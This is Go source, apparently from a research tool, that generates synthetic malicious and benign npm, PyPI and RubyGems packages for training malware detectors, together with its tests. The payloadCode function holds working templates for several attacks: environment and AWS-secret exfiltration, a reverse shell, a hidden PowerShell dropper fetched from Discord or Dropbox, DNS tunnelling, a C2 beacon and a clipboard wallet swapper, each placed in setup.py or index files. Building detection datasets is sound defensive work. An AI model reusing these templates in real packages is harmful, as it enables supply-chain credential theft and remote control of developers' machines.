	return fmt.Sprintf("# %s\n\n%s\n\nInstall from %s.\nMIT License.\n", coord.Name, desc, coord.Ecosystem)
}

func (cb *CodeBase) sourceFiles(coord ecosys.Coord, opts Options, ioc IoC) []ecosys.File {
	ext := coord.Ecosystem.SourceExt()
	var main, helper strings.Builder

	// Import section: benign-looking stdlib plus any dependent-hidden libs.
	main.WriteString(cb.saltHeader(ext))
	main.WriteString(importBlock(ext, opts.ImportDeps))
	main.WriteString(cb.payloadCode(ext, ioc))
	helper.WriteString(cb.saltHeader(ext))
	for i, f := range cb.fillers {
		if i%2 == 0 {
			main.WriteString(f)
		} else {
			helper.WriteString(f)
		}
	}

	mainName := "index." + ext
	if ext == "py" {
		mainName = "setup.py"
	}
	// Single-file vs main+helper layout varies per code base, as it does in
	// the wild; file count is therefore not a class signal.
	if len(cb.fillers) < 4 {
		main.WriteString(helper.String())
		return []ecosys.File{{Path: mainName, Content: main.String()}}
	}
	return []ecosys.File{
		{Path: mainName, Content: main.String()},
		{Path: "lib/helper." + ext, Content: helper.String()},
	}
}

func importBlock(ext string, deps []string) string {
	var b strings.Builder
	switch ext {
	case "py":
		b.WriteString("import os\nimport sys\nimport base64\nimport socket\n")
		for _, d := range deps {
			b.WriteString("import " + d + "\n")
		}
	case "js":
		b.WriteString("const os = require('os');\nconst https = require('https');\nconst cp = require('child_process');\n")
		for _, d := range deps {
			fmt.Fprintf(&b, "const %s = require('%s');\n", jsVar(d), d)
		}
	case "rb":
		b.WriteString("require 'socket'\nrequire 'base64'\nrequire 'net/http'\n")
		for _, d := range deps {
			fmt.Fprintf(&b, "require '%s'\n", d)
		}
	}
	b.WriteByte('\n')
	return b.String()
}

func jsVar(dep string) string {
	return strings.NewReplacer("-", "_", ".", "_", "/", "_", "@", "").Replace(dep)
}

// dropperURL keeps the delivery service stable per family (Discord and
// Dropbox droppers are defined by their service) while the path still tracks
// the IoC, so the CC operation remains a genuine one-line diff.
func dropperURL(p PayloadKind, ioc IoC) string {
	path := ioc.URL
	if i := strings.Index(path, "//"); i >= 0 {
		if j := strings.IndexByte(path[i+2:], '/'); j >= 0 {
			path = path[i+2+j+1:]
		}
	}
	switch p {
	case PayloadDiscordDropper:
		return "https://cdn.discordapp.com/attachments/" + path
	case PayloadDropboxFetch:
		return "https://dl.dropbox.com/s/" + path
	default:
		return ioc.URL
	}
}

// payloadCode renders the malicious section. Templates keep IoC literals on
// their own line so the CC operation is a genuine ~1-line diff; each family
// embeds only the indicators it actually uses (a beacon has a URL, a reverse
// shell an IP, a DNS tunnel a domain), which keeps feature signatures
// family-specific rather than globally "malware-shaped".
func (cb *CodeBase) payloadCode(ext string, ioc IoC) string {
	id := func(i int) string { return cb.idents[i%len(cb.idents)] }
	var b strings.Builder
	// Build-tag line: anchors even token-poor payloads (the 3-line droppers)
	// to this code base's vocabulary, so same-template campaigns from
	// different actors do not chain-merge in the similarity stage.
	switch ext {
	case "py":
		fmt.Fprintf(&b, "%s_build = \"%s-%s-%s\"\n", cb.salt[0], cb.salt[1], cb.salt[2], cb.salt[3])
	case "js":
		fmt.Fprintf(&b, "const %s_build = \"%s-%s-%s\";\n", cb.salt[0], cb.salt[1], cb.salt[2], cb.salt[3])
	case "rb":
		fmt.Fprintf(&b, "%s_BUILD = \"%s-%s-%s\"\n", strings.ToUpper(cb.salt[0]), cb.salt[1], cb.salt[2], cb.salt[3])
	}
	switch ext {
	case "py":
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil, PayloadBeaconC2:
			fmt.Fprintf(&b, "%s = \"%s\"\n", id(0), ioc.URL)
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "%s = \"%s\"\n", id(1), ioc.IP)
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "%s = \"%s\"\n", id(0), dropperURL(cb.Payload, ioc))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "%s = \"wss://%s/feed\"\n", id(0), ioc.Domain)
		}
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil:
			fmt.Fprintf(&b, "def %s():\n    data = dict(os.environ)\n    data['aws'] = os.environ.get('AWS_SECRET_ACCESS_KEY')\n    from http.client import HTTPSConnection\n    conn = HTTPSConnection(\"%s\")\n    conn.request('POST', %s, str(data))\n\n%s()\n", id(2), ioc.Domain, id(0), id(2))
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "def %s():\n    payload = base64.b64decode(\"%s\")\n    os.system(\"powershell -WindowStyle Hidden -EncodedCommand \" + payload.decode())\n\n%s()\n", id(2), cb.obfChunk, id(2))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "%s = \"%s\"\ndef %s(clipboard):\n    \"\"\"替换剪贴板中的钱包地址\"\"\"\n    if clipboard.startswith('0x'):\n        return %s\n    return clipboard\n", id(3), walletAddr(cb.obfChunk), id(2), id(3))
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "def %s():\n    s = socket.socket()\n    s.connect((%s, 4444))\n    while True:\n        cmd = s.recv(1024).decode()\n        s.send(os.popen(cmd).read().encode())\n\n%s()\n", id(2), id(1), id(2))
		case PayloadBeaconC2:
			fmt.Fprintf(&b, "def %s():\n    info = {'host': socket.gethostname(), 'user': os.getlogin()}\n    from http.client import HTTPSConnection\n    HTTPSConnection(\"%s\").request('POST', %s + '/beacon', str(info))\n\n%s()\n", id(2), ioc.Domain, id(0), id(2))
		case PayloadDNSTunnel:
			fmt.Fprintf(&b, "def %s(secret):\n    for chunk in [secret[i:i+32] for i in range(0, len(secret), 32)]:\n        socket.gethostbyname(chunk + '.' + \"%s\")\n\n%s(str(dict(os.environ)))\n", id(2), ioc.Domain, id(2))
		case PayloadTrojanLite:
			fmt.Fprintf(&b, "def %s():\n    from http.client import HTTPSConnection\n    HTTPSConnection(\"%s\").request('GET', '/pixel.gif')\n\n%s()\n", id(2), ioc.Domain, id(2))
		default:
			fmt.Fprintf(&b, "def %s():\n    exec(base64.b64decode(\"%s\"))\n\n%s()\n", id(2), cb.obfChunk, id(2))
		}
	case "js":
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil, PayloadBeaconC2:
			fmt.Fprintf(&b, "const %s = \"%s\";\n", id(0), ioc.URL)
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "const %s = \"%s\";\n", id(1), ioc.IP)
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "const %s = \"%s\";\n", id(0), dropperURL(cb.Payload, ioc))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "const %s = \"wss://%s/feed\";\n", id(0), ioc.Domain)
		}
		switch cb.Payload {
		case PayloadEnvExfil, PayloadCredentialTheft, PayloadWebhookExfil:
			fmt.Fprintf(&b, "function %s() {\n  const data = JSON.stringify(process.env);\n  const req = https.request(%s, {method: 'POST'});\n  req.write(data);\n  req.end();\n}\n%s();\n", id(2), id(0), id(2))
		case PayloadDiscordDropper, PayloadDropboxFetch, PayloadPowerShellDropper:
			fmt.Fprintf(&b, "function %s() {\n  const payload = Buffer.from(\"%s\", 'base64').toString();\n  cp.exec('powershell -WindowStyle Hidden ' + payload);\n}\n%s();\n", id(2), cb.obfChunk, id(2))
		case PayloadWalletReplace:
			fmt.Fprintf(&b, "const %s = \"%s\";\nfunction %s(文本) {\n  // 替换加密钱包地址\n  if (文本.startsWith('0x')) return %s;\n  return 文本;\n}\n", id(3), walletAddr(cb.obfChunk), id(2), id(3))
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "function %s() {\n  const net = require('net');\n  const sock = net.connect(4444, %s);\n  sock.on('data', d => cp.exec(d.toString(), (e, out) => sock.write(out || '')));\n}\n%s();\n", id(2), id(1), id(2))
		case PayloadBeaconC2:
			fmt.Fprintf(&b, "function %s() {\n  const info = {host: os.hostname(), user: os.userInfo().username};\n  https.request(%s + '/beacon', {method: 'POST'}).end(JSON.stringify(info));\n}\n%s();\n", id(2), id(0), id(2))
		case PayloadDNSTunnel:
			fmt.Fprintf(&b, "function %s(secret) {\n  const dns = require('dns');\n  for (let i = 0; i < secret.length; i += 32) {\n    dns.lookup(secret.slice(i, i+32) + '.' + \"%s\", () => {});\n  }\n}\n%s(JSON.stringify(process.env));\n", id(2), ioc.Domain, id(2))
		case PayloadTrojanLite:
			fmt.Fprintf(&b, "https.get('https://' + \"%s\" + '/pixel.gif');\n", ioc.Domain)
		default:
			fmt.Fprintf(&b, "eval(Buffer.from(\"%s\", 'base64').toString());\n", cb.obfChunk)
		}
	case "rb":
		fmt.Fprintf(&b, "%s = \"%s\"\n", strings.ToUpper(id(0)), ioc.URL)
		fmt.Fprintf(&b, "%s = \"%s\"\n", strings.ToUpper(id(1)), ioc.IP)
		switch cb.Payload {
		case PayloadBackdoorShell:
			fmt.Fprintf(&b, "def %s\n  s = TCPSocket.new(%s, 4444)\n  loop { s.write(`#{s.gets}`) }\nend\n%s\n", id(2), strings.ToUpper(id(1)), id(2))
		default:
			fmt.Fprintf(&b, "def %s\n  data = ENV.to_h.to_s\n  Net::HTTP.post(URI(%s), data)\nend\n%s\n", id(2), strings.ToUpper(id(0)), id(2))
		}
	}
	b.WriteByte('\n')
	return b.String()
}

func walletAddr(seed string) string {
	if len(seed) < 38 {
		seed = seed + strings.Repeat("a", 38)
	}
	return "0x" + strings.ToLower(seed[:38])
}

var identSyllables = []string{
	"ser", "net", "con", "fig", "pro", "dat", "han", "dle", "req", "res",
	"mod", "pkg", "sys", "log", "tmp", "buf", "ctx", "sec", "tok", "enc",
}

func randomIdent(rng *xrand.RNG) string {
	n := 2 + rng.Intn(2)
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteString(xrand.Pick(rng, identSyllables))
	}
	b.WriteString(fmt.Sprint(rng.Intn(100)))
	return b.String()
}

func randomIdentSeeded(rng *xrand.RNG) string { return randomIdent(rng) }

const base64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

func base64ish(rng *xrand.RNG, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = base64Alphabet[rng.Intn(len(base64Alphabet))]
	}
	return string(b)
}

// fillerFunc emits one benign helper function, giving packages realistic
// benign-to-malicious code ratios. The salt token anchors the filler to its
// code base's vocabulary.
func fillerFunc(eco ecosys.Ecosystem, rng *xrand.RNG, salt string) string {
	name := randomIdent(rng)
	a, bIdent, c := randomIdent(rng), randomIdent(rng), randomIdent(rng)
	switch eco.SourceExt() {
	case "py":
		return fmt.Sprintf("def %s(%s, %s=None):\n    \"\"\"%s helper.\"\"\"\n    %s = %s or []\n    %s = [x for x in %s if x]\n    return %s\n\n", name, a, bIdent, salt, bIdent, bIdent, c, a, c)
	case "rb":
		return fmt.Sprintf("def %s(%s) # %s\n  %s = %s.reject(&:nil?)\n  %s\nend\n\n", name, a, salt, c, a, c)
	default:
		return fmt.Sprintf("function %s(%s, %s) { // %s\n  const %s = (%s || []).filter(Boolean);\n  return %s.concat(%s || []);\n}\n\n", name, a, bIdent, salt, c, a, c, bIdent)
	}
}
