package codegen

import (
	"strings"
	"testing"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

func testCoord(eco ecosys.Ecosystem) ecosys.Coord {
	return ecosys.Coord{Ecosystem: eco, Name: "evil-pkg", Version: "1.0.0"}
}

func TestInstantiateHasManifestAndSource(t *testing.T) {
	rng := xrand.New(1)
	for _, eco := range ecosys.Big3() {
		cb := NewCodeBase("cb1", eco, PayloadEnvExfil, rng.Derive(eco.String()))
		art := cb.Instantiate(testCoord(eco), Options{Description: "handy tool", Dependencies: []string{"urllib"}})
		if _, ok := art.Manifest(); !ok {
			t.Fatalf("%v: missing manifest", eco)
		}
		if len(art.SourceFiles()) == 0 {
			t.Fatalf("%v: no source files", eco)
		}
		if !strings.Contains(art.MergedSource(), cb.IoC.URL) {
			t.Fatalf("%v: payload URL not embedded", eco)
		}
	}
}

func TestSameCodeBaseIsTokenStable(t *testing.T) {
	rng := xrand.New(2)
	cb := NewCodeBase("cb", ecosys.PyPI, PayloadBeaconC2, rng)
	a := cb.Instantiate(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "pkg-a", Version: "1.0.0"}, Options{Description: "d"})
	b := cb.Instantiate(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "pkg-b", Version: "2.0.0"}, Options{Description: "d"})
	// Source bodies must be identical: only name/version/manifest move.
	if a.MergedSource() != b.MergedSource() {
		t.Fatal("same code base must render identical source for identical options")
	}
	if a.Hash() == b.Hash() {
		t.Fatal("different coordinates must still hash differently (manifest embeds name)")
	}
}

func TestDifferentCodeBasesDiffer(t *testing.T) {
	rng := xrand.New(3)
	a := NewCodeBase("a", ecosys.NPM, PayloadEnvExfil, rng.Derive("a"))
	b := NewCodeBase("b", ecosys.NPM, PayloadWalletReplace, rng.Derive("b"))
	artA := a.Instantiate(testCoord(ecosys.NPM), Options{})
	artB := b.Instantiate(testCoord(ecosys.NPM), Options{})
	if artA.MergedSource() == artB.MergedSource() {
		t.Fatal("different code bases must produce different source")
	}
}

func TestIoCOverrideIsSmallDiff(t *testing.T) {
	rng := xrand.New(4)
	cb := NewCodeBase("cb", ecosys.NPM, PayloadBeaconC2, rng)
	coord := testCoord(ecosys.NPM)
	base := cb.Instantiate(coord, Options{})
	alt := RandomIoC(rng.Derive("alt"))
	changed := cb.Instantiate(coord, Options{IoCOverride: &alt})
	n := ChangedLines(base.MergedSource(), changed.MergedSource())
	if n == 0 {
		t.Fatal("IoC override must change the source")
	}
	if n > 4 {
		t.Fatalf("IoC override should be a small diff, got %d lines", n)
	}
}

func TestImportDepsAppearInSource(t *testing.T) {
	rng := xrand.New(5)
	for _, eco := range ecosys.Big3() {
		cb := NewCodeBase("cb", eco, PayloadEnvExfil, rng.Derive(eco.String()))
		art := cb.Instantiate(testCoord(eco), Options{ImportDeps: []string{"pygrata"}})
		src := art.MergedSource()
		if !strings.Contains(src, "pygrata") {
			t.Fatalf("%v: import dep missing from source", eco)
		}
	}
}

func TestManifestDepsRoundTrip(t *testing.T) {
	rng := xrand.New(6)
	want := []string{"urllib", "request"}
	for _, eco := range ecosys.Big3() {
		cb := NewCodeBase("cb", eco, PayloadEnvExfil, rng.Derive(eco.String()))
		art := cb.Instantiate(testCoord(eco), Options{Dependencies: want})
		got := ManifestDeps(art)
		if len(got) != len(want) {
			t.Fatalf("%v: deps = %v, want %v", eco, got, want)
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("%v: deps = %v, want %v", eco, got, want)
			}
		}
	}
}

func TestManifestDepsEmpty(t *testing.T) {
	rng := xrand.New(7)
	cb := NewCodeBase("cb", ecosys.NPM, PayloadEnvExfil, rng)
	art := cb.Instantiate(testCoord(ecosys.NPM), Options{})
	if got := ManifestDeps(art); len(got) != 0 {
		t.Fatalf("empty deps parsed as %v", got)
	}
}

func TestDiffOpsNameVsVersionExclusive(t *testing.T) {
	rng := xrand.New(8)
	cb := NewCodeBase("cb", ecosys.NPM, PayloadEnvExfil, rng)
	a := cb.Instantiate(ecosys.Coord{Ecosystem: ecosys.NPM, Name: "x", Version: "1.0.0"}, Options{Description: "d"})
	renamed := cb.Instantiate(ecosys.Coord{Ecosystem: ecosys.NPM, Name: "y", Version: "2.0.0"}, Options{Description: "d"})
	ops := DiffOps(a, renamed)
	if !hasOp(ops, OpName) || hasOp(ops, OpVersion) {
		t.Fatalf("rename dominates version: got %v", ops)
	}
	bumped := cb.Instantiate(ecosys.Coord{Ecosystem: ecosys.NPM, Name: "x", Version: "1.0.1"}, Options{Description: "d"})
	ops = DiffOps(a, bumped)
	if hasOp(ops, OpName) || !hasOp(ops, OpVersion) {
		t.Fatalf("version-only bump: got %v", ops)
	}
}

func TestDiffOpsFlags(t *testing.T) {
	rng := xrand.New(9)
	cb := NewCodeBase("cb", ecosys.PyPI, PayloadEnvExfil, rng)
	coord := testCoord(ecosys.PyPI)
	a := cb.Instantiate(coord, Options{Description: "one", Dependencies: []string{"urllib"}})

	b := cb.Instantiate(coord, Options{Description: "two", Dependencies: []string{"urllib"}})
	if ops := DiffOps(a, b); !hasOp(ops, OpDescription) || hasOp(ops, OpDependency) || hasOp(ops, OpCode) {
		t.Fatalf("description-only diff: %v", ops)
	}

	c := cb.Instantiate(coord, Options{Description: "one", Dependencies: []string{"request"}})
	if ops := DiffOps(a, c); !hasOp(ops, OpDependency) {
		t.Fatalf("dependency diff not detected: %v", ops)
	}

	alt := RandomIoC(rng.Derive("alt"))
	d := cb.Instantiate(coord, Options{Description: "one", Dependencies: []string{"urllib"}, IoCOverride: &alt})
	if ops := DiffOps(a, d); !hasOp(ops, OpCode) {
		t.Fatalf("code diff not detected: %v", ops)
	}
}

func TestDiffOpsIdentical(t *testing.T) {
	rng := xrand.New(10)
	cb := NewCodeBase("cb", ecosys.NPM, PayloadEnvExfil, rng)
	a := cb.Instantiate(testCoord(ecosys.NPM), Options{Description: "d"})
	b := cb.Instantiate(testCoord(ecosys.NPM), Options{Description: "d"})
	if ops := DiffOps(a, b); len(ops) != 0 {
		t.Fatalf("identical packages diff as %v", ops)
	}
}

func hasOp(ops []Op, want Op) bool {
	for _, o := range ops {
		if o == want {
			return true
		}
	}
	return false
}

func TestChangedLines(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"a\nb\nc", "a\nb\nc", 0},
		{"a\nb\nc", "a\nX\nc", 1},
		{"a\nb", "a\nb\nc\nd", 1}, // two added lines ≈ 1 edit pair
		{"", "x", 1},
	}
	for _, tc := range cases {
		if got := ChangedLines(tc.a, tc.b); got != tc.want {
			t.Errorf("ChangedLines(%q,%q) = %d, want %d", tc.a, tc.b, got, tc.want)
		}
	}
}

func TestPayloadBehaviorsNonEmpty(t *testing.T) {
	for _, p := range AllPayloads() {
		if len(p.Behaviors()) == 0 {
			t.Fatalf("payload %d has no behaviours", p)
		}
	}
}

func TestOpStrings(t *testing.T) {
	want := []string{"CN", "CV", "CD", "CDep", "CC"}
	for i, op := range AllOps() {
		if op.String() != want[i] {
			t.Fatalf("op %d = %s, want %s", i, op, want[i])
		}
	}
}

func TestWalletPayloadHasObfuscationMarkers(t *testing.T) {
	rng := xrand.New(11)
	cb := NewCodeBase("cb", ecosys.PyPI, PayloadWalletReplace, rng)
	art := cb.Instantiate(testCoord(ecosys.PyPI), Options{})
	src := art.MergedSource()
	if !strings.Contains(src, "0x") {
		t.Fatal("wallet payload must embed a wallet address")
	}
	if !strings.Contains(src, "钱包") && !strings.Contains(src, "替换") {
		t.Fatal("wallet payload must carry Chinese-character obfuscation (Table XI row 1, PyPI)")
	}
}

func TestDeterministicGeneration(t *testing.T) {
	a := NewCodeBase("cb", ecosys.NPM, PayloadBeaconC2, xrand.New(42))
	b := NewCodeBase("cb", ecosys.NPM, PayloadBeaconC2, xrand.New(42))
	artA := a.Instantiate(testCoord(ecosys.NPM), Options{})
	artB := b.Instantiate(testCoord(ecosys.NPM), Options{})
	if artA.Hash() != artB.Hash() {
		t.Fatal("same seed must produce identical artifacts")
	}
}
