package codegen

import (
	"fmt"
	"strings"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

// BenignPurpose flavours a legitimate package. Each purpose legitimately
// uses APIs that also appear in malware (sockets, base64, install hooks,
// environment access), which is precisely what makes the §VI-A detection
// task non-trivial: single-token rules produce false positives, so models
// must learn combinations.
type BenignPurpose int

// Benign package flavours. The second group are deliberate hard negatives:
// each mirrors the *partial* signature of one malware family (telemetry
// libraries read the environment and POST over HTTPS; DNS tooling resolves
// hostnames in loops; webhook clients talk to chat services; clipboard
// utilities touch the clipboard) so that detection models must learn full
// malicious combinations rather than single tokens.
const (
	PurposeNetworking BenignPurpose = iota + 1
	PurposeEncoding
	PurposeCLI
	PurposeBuildTool
	PurposeDataLib
	PurposeTelemetry
	PurposeDNSTools
	PurposeWebhookClient
	PurposeClipboard
)

// AllPurposes lists every benign flavour.
func AllPurposes() []BenignPurpose {
	return []BenignPurpose{
		PurposeNetworking, PurposeEncoding, PurposeCLI, PurposeBuildTool, PurposeDataLib,
		PurposeTelemetry, PurposeDNSTools, PurposeWebhookClient, PurposeClipboard,
	}
}

// BenignBase generates legitimate packages for one library project.
type BenignBase struct {
	ID      string
	Eco     ecosys.Ecosystem
	Purpose BenignPurpose
	idents  []string
	salt    []string
	fillers []string
}

// NewBenignBase derives a benign code base.
func NewBenignBase(id string, eco ecosys.Ecosystem, purpose BenignPurpose, rng *xrand.RNG) *BenignBase {
	b := &BenignBase{ID: id, Eco: eco, Purpose: purpose}
	n := 5 + rng.Intn(4)
	b.idents = make([]string, n)
	for i := range b.idents {
		b.idents[i] = randomIdent(rng)
	}
	b.salt = make([]string, 4)
	for i := range b.salt {
		b.salt[i] = randomIdent(rng) + randomIdent(rng)
	}
	nf := 3 + rng.Intn(5)
	b.fillers = make([]string, nf)
	for i := range b.fillers {
		b.fillers[i] = fillerFunc(eco, rng, b.salt[i%len(b.salt)])
	}
	return b
}

// Instantiate renders a benign artifact.
func (b *BenignBase) Instantiate(coord ecosys.Coord, description string, deps []string) *ecosys.Artifact {
	ext := coord.Ecosystem.SourceExt()
	var src strings.Builder
	marker := "#"
	if ext == "js" {
		marker = "//"
	}
	fmt.Fprintf(&src, "%s %s — %s\n", marker, coord.Name, description)
	fmt.Fprintf(&src, "%s maintainers: %s\n", marker, strings.Join(b.salt, " "))
	// Real libraries carry documentation links and local test endpoints —
	// URL and IP literals are not malware-exclusive signals. The exact count
	// varies per project (stable per base, keyed off its vocabulary).
	if len(b.salt[0])%2 == 0 {
		fmt.Fprintf(&src, "%s docs: https://docs.example.org/%s\n", marker, coord.Name)
	}
	if len(b.salt[1])%2 == 0 {
		fmt.Fprintf(&src, "%s issues: https://github.com/org/%s\n", marker, coord.Name)
	}
	if b.Purpose == PurposeNetworking || b.Purpose == PurposeDNSTools {
		fmt.Fprintf(&src, "%s local test endpoint: 127.0.0.1\n", marker)
	}
	if ext == "py" {
		fmt.Fprintf(&src, "HOMEPAGE = \"https://github.com/org/%s#readme\"\n", b.salt[0])
	} else if ext == "js" {
		fmt.Fprintf(&src, "const HOMEPAGE = \"https://github.com/org/%s#readme\";\n", b.salt[0])
	}
	src.WriteString(benignImports(ext, b.Purpose))
	src.WriteString(b.purposeCode(ext))
	var helper strings.Builder
	for i, f := range b.fillers {
		if len(b.fillers) >= 6 && i%2 == 1 {
			helper.WriteString(f)
		} else {
			src.WriteString(f)
		}
	}

	files := []ecosys.File{
		{Path: "README.md", Content: fmt.Sprintf("# %s\n\n%s\n", coord.Name, description)},
		{Path: mainFileName(ext), Content: src.String()},
		b.manifest(coord, description, deps),
	}
	if helper.Len() > 0 {
		files = append(files, ecosys.File{Path: "lib/util." + ext, Content: helper.String()})
	}
	return ecosys.NewArtifact(coord, description, files)
}

func mainFileName(ext string) string {
	if ext == "py" {
		return "setup.py"
	}
	return "index." + ext
}

func (b *BenignBase) manifest(coord ecosys.Coord, description string, deps []string) ecosys.File {
	switch coord.Ecosystem {
	case ecosys.PyPI:
		return ecosys.File{Path: "requirements.txt", Content: strings.Join(deps, "\n") + "\n"}
	case ecosys.RubyGems:
		var sb strings.Builder
		fmt.Fprintf(&sb, "Gem::Specification.new do |s|\n  s.name = %q\n  s.version = %q\n  s.summary = %q\n", coord.Name, coord.Version, description)
		for _, d := range deps {
			fmt.Fprintf(&sb, "  s.add_dependency %q\n", d)
		}
		sb.WriteString("end\n")
		return ecosys.File{Path: "package.gemspec", Content: sb.String()}
	default:
		var sb strings.Builder
		sb.WriteString("{\n")
		fmt.Fprintf(&sb, "  \"name\": %q,\n  \"version\": %q,\n  \"description\": %q,\n", coord.Name, coord.Version, description)
		if b.Purpose == PurposeBuildTool {
			// Native build tools legitimately run install scripts.
			sb.WriteString("  \"scripts\": {\"postinstall\": \"node-gyp rebuild\"},\n")
		}
		sb.WriteString("  \"dependencies\": {")
		for i, d := range deps {
			if i > 0 {
				sb.WriteString(", ")
			}
			fmt.Fprintf(&sb, "%q: \"^2.0.0\"", d)
		}
		sb.WriteString("}\n}\n")
		return ecosys.File{Path: "package.json", Content: sb.String()}
	}
}

func benignImports(ext string, p BenignPurpose) string {
	switch ext {
	case "py":
		switch p {
		case PurposeNetworking:
			return "import socket\nimport select\n\n"
		case PurposeEncoding:
			return "import base64\nimport binascii\n\n"
		case PurposeCLI:
			return "import os\nimport argparse\n\n"
		case PurposeBuildTool:
			return "import os\nimport subprocess\n\n"
		case PurposeTelemetry:
			return "import os\nimport urllib3\n\n"
		case PurposeDNSTools:
			return "import socket\n\n"
		case PurposeWebhookClient:
			return "import json\n\n"
		case PurposeClipboard:
			return "import platform\n\n"
		default:
			return "import json\nimport csv\n\n"
		}
	case "rb":
		return "require 'json'\n\n"
	default:
		switch p {
		case PurposeNetworking:
			return "const net = require('net');\nconst https = require('https');\n\n"
		case PurposeEncoding:
			return "const { Buffer } = require('buffer');\n\n"
		case PurposeCLI:
			return "const os = require('os');\nconst process = require('process');\n\n"
		case PurposeBuildTool:
			return "const cp = require('child_process');\n\n"
		case PurposeTelemetry:
			return "const os = require('os');\n\n"
		case PurposeDNSTools:
			return "const dns = require('dns');\n\n"
		case PurposeWebhookClient:
			return "const querystring = require('querystring');\n\n"
		case PurposeClipboard:
			return "const os = require('os');\n\n"
		default:
			return "const fs = require('fs');\n\n"
		}
	}
}

// purposeCode emits the legitimate core of the library: hard negatives that
// share individual tokens with malware payloads.
func (b *BenignBase) purposeCode(ext string) string {
	id := func(i int) string { return b.idents[i%len(b.idents)] }
	var sb strings.Builder
	switch ext {
	case "py":
		switch b.Purpose {
		case PurposeNetworking:
			fmt.Fprintf(&sb, "def %s(host, port, timeout=5):\n    \"\"\"Open a TCP health-check connection.\"\"\"\n    s = socket.socket()\n    s.settimeout(timeout)\n    s.connect((host, port))\n    s.close()\n    return True\n\n", id(0))
		case PurposeEncoding:
			fmt.Fprintf(&sb, "def %s(data):\n    \"\"\"Round-trip helper for base64 payload encoding in tests.\"\"\"\n    return base64.b64decode(base64.b64encode(data))\n\n", id(0))
		case PurposeCLI:
			fmt.Fprintf(&sb, "def %s():\n    \"\"\"Read configuration from the environment.\"\"\"\n    return {k: v for k, v in os.environ.items() if k.startswith('APP_')}\n\n", id(0))
		case PurposeBuildTool:
			fmt.Fprintf(&sb, "def %s(target):\n    \"\"\"Invoke the native build.\"\"\"\n    subprocess.check_call(['make', target])\n\n", id(0))
		case PurposeTelemetry:
			fmt.Fprintf(&sb, "TELEMETRY_URL = \"https://telemetry.example.com/v1/usage\"\ndef %s(enabled):\n    \"\"\"Opt-in anonymous usage metrics.\"\"\"\n    if not enabled:\n        return\n    payload = {k: os.environ.get(k) for k in ('CI', 'LANG', 'TERM')}\n    urllib3.PoolManager().request('POST', TELEMETRY_URL, fields=payload)\n\n", id(0))
		case PurposeDNSTools:
			fmt.Fprintf(&sb, "def %s(hosts):\n    \"\"\"Bulk-resolve hostnames for health dashboards.\"\"\"\n    return {h: socket.gethostbyname(h) for h in hosts}\n\n", id(0))
		case PurposeWebhookClient:
			fmt.Fprintf(&sb, "def %s(webhook_url, text):\n    \"\"\"Post a chat notification to a configured webhook.\"\"\"\n    body = json.dumps({'content': text})\n    return {'url': webhook_url, 'body': body}\n\n", id(0))
		case PurposeClipboard:
			fmt.Fprintf(&sb, "def %s(clipboard_text):\n    \"\"\"Normalise clipboard contents for pasting.\"\"\"\n    return clipboard_text.strip().replace('\\r\\n', '\\n')\n\n", id(0))
		default:
			fmt.Fprintf(&sb, "def %s(rows):\n    \"\"\"Serialise rows to JSON lines.\"\"\"\n    return [json.dumps(r) for r in rows]\n\n", id(0))
		}
	case "rb":
		fmt.Fprintf(&sb, "def %s(rows)\n  rows.map { |r| JSON.generate(r) }\nend\n\n", id(0))
	default:
		switch b.Purpose {
		case PurposeNetworking:
			fmt.Fprintf(&sb, "function %s(host, port) {\n  return new Promise((resolve, reject) => {\n    const sock = net.connect(port, host, () => { sock.end(); resolve(true); });\n    sock.on('error', reject);\n  });\n}\n\n", id(0))
		case PurposeEncoding:
			fmt.Fprintf(&sb, "function %s(data) {\n  return Buffer.from(Buffer.from(data).toString('base64'), 'base64');\n}\n\n", id(0))
		case PurposeCLI:
			fmt.Fprintf(&sb, "function %s() {\n  return Object.keys(process.env).filter(k => k.startsWith('APP_'));\n}\n\n", id(0))
		case PurposeBuildTool:
			fmt.Fprintf(&sb, "function %s(target) {\n  cp.execSync('make ' + target, {stdio: 'inherit'});\n}\n\n", id(0))
		case PurposeTelemetry:
			fmt.Fprintf(&sb, "const TELEMETRY_URL = 'https://telemetry.example.com/v1/usage';\nfunction %s(enabled) {\n  if (!enabled) return;\n  const payload = {ci: process.env.CI, lang: process.env.LANG};\n  return fetch(TELEMETRY_URL, {method: 'POST', body: JSON.stringify(payload)});\n}\n\n", id(0))
		case PurposeDNSTools:
			fmt.Fprintf(&sb, "function %s(hosts, cb) {\n  hosts.forEach(h => dns.lookup(h, (err, addr) => cb(h, addr)));\n}\n\n", id(0))
		case PurposeWebhookClient:
			fmt.Fprintf(&sb, "function %s(webhookUrl, text) {\n  return {url: webhookUrl, body: JSON.stringify({content: text})};\n}\n\n", id(0))
		case PurposeClipboard:
			fmt.Fprintf(&sb, "function %s(clipboardText) {\n  return clipboardText.trim().replace(/\\r\\n/g, '\\n');\n}\n\n", id(0))
		default:
			fmt.Fprintf(&sb, "function %s(rows) {\n  return rows.map(r => JSON.stringify(r));\n}\n\n", id(0))
		}
	}
	return sb.String()
}

